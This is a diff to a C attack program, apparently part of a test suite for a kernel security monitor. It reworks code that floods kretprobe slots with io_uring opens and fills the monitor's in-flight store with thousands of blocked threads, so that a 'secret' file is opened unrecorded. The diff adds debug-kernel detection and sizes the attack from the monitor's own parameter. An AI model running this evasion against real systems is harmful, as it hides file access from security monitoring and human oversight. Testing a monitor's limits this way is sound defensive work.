@@ -13,6 +13,7 @@
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/utsname.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -20,8 +21,11 @@
 #include "attack.h"
 
 #define OPERATIONS	600	/* a kretprobe has room for 512 of one kind */
+#define OPERATIONS_DEBUG 150	/* where the kernel takes ten times as long to make a thread */
 #define THREADS		12000
+#define KEPT_BYTES	4608	/* of one call with the longest path */
 #define WAIT_S		90
+#define WAIT_DEBUG_S	240
 #define IOWQ_MAX_WORKERS 19	/* newer than the headers we may be built with */
 
 static char fifo[512], secret[512], other[512];
@@ -63,6 +67,18 @@ static void raise_limits(void)
 	must(!setrlimit(RLIMIT_NOFILE, &files), "RLIMIT_NOFILE");	/* what blocks has its descriptor */
 }
 
+static bool is_debug_kernel(void)
+{
+	struct utsname name;
+
+	return !uname(&name) && strstr(name.release, "-debug");
+}
+
+static int wait_s(void)
+{
+	return is_debug_kernel() ? WAIT_DEBUG_S : WAIT_S;
+}
+
 static int threads(void)
 {
 	DIR *dir = opendir("/proc/self/task");
@@ -78,7 +94,7 @@ static int threads(void)
 /* True if it came to so many. */
 static bool wait_threads(int want)
 {
-	for (int i = 0; i < WAIT_S * 20; i++) {
+	for (int i = 0; i < wait_s() * 20; i++) {
 		if (threads() >= want)
 			return true;
 		usleep(50000);
@@ -100,6 +116,7 @@ static struct io_uring_sqe *open_sqe(struct uring *ring, const char *path)
 static int run_uring(int argc, char **argv)
 {
 	unsigned int workers[2] = { 2 * OPERATIONS, 2 * OPERATIONS };
+	int operations = is_debug_kernel() ? OPERATIONS_DEBUG : OPERATIONS;
 	struct uring ring;
 
 	places(argc, argv);
@@ -107,11 +124,11 @@ static int run_uring(int argc, char **argv)
 	if (!uring_open(&ring, 0) ||
 	    syscall(SYS_io_uring_register, ring.fd, IOWQ_MAX_WORKERS, workers, 2))
 		return cannot("no io_uring, or not so many workers");
-	for (int i = 0; i < OPERATIONS; i++) {
+	for (int i = 0; i < operations; i++) {
 		open_sqe(&ring, fifo)->flags = IOSQE_ASYNC;
 		uring_submit(&ring);
 	}
-	must(wait_threads(OPERATIONS), "blocked operations");
+	must(wait_threads(operations), "blocked operations");
 	open_sqe(&ring, secret);
 	must(uring_do(&ring) >= 0, "the secret's open");
 	return 0;
@@ -123,11 +140,26 @@ static void *blocked_open(void *path)
 	return NULL;
 }
 
+/* As many as it takes to fill the whole store, if nobody hindered them. */
+static int crowd_size(void)
+{
+	FILE *f = fopen("/sys/module/falcoc/parameters/inflight_mib", "r");
+	long mib = 0, want;
+
+	if (f && fscanf(f, "%ld", &mib) != 1)
+		mib = 0;
+	if (f)
+		fclose(f);
+	want = mib ? (mib << 20) / KEPT_BYTES + 200 : THREADS;
+	return want < THREADS ? want : THREADS;
+}
+
 /* A path as long as there may be, to a fifo; as somebody who may do nothing else. */
 static int crowd(void *unused)
 {
 	static char path[4096];
 	size_t len = strlen(fifo) + 1;
+	int want = crowd_size();
 	pthread_attr_t attrs;
 	pthread_t thread;
 
@@ -138,7 +170,7 @@ static int crowd(void *unused)
 	must(setresuid(1000, 1000, 1000) == 0, "setresuid");
 	pthread_attr_init(&attrs);
 	pthread_attr_setstacksize(&attrs, 16384);
-	for (int i = 0; i < THREADS; i++)
+	for (int i = 0; i < want; i++)
 		if (pthread_create(&thread, &attrs, blocked_open, path))
 			break;
 	pause();
@@ -168,8 +200,9 @@ static int run_store(int argc, char **argv)
 	if (!pid)
 		_exit(crowd(NULL));
 	fact("crowd", "%d", pid);
-	for (int i = 0; i < WAIT_S * 20 && not_kept() < before + 100; i++)
+	for (int i = 0; i < wait_s() * 20 && not_kept() < before + 100; i++)
 		usleep(50000);
+	fact("not_kept", "%lu", not_kept() - before);
 	must(not_kept() >= before + 100, "a store that is used up");
 	if (!straddle_init(&s, secret, other, strlen(secret) + 1, 4))
 		return cannot("no userfaultfd");
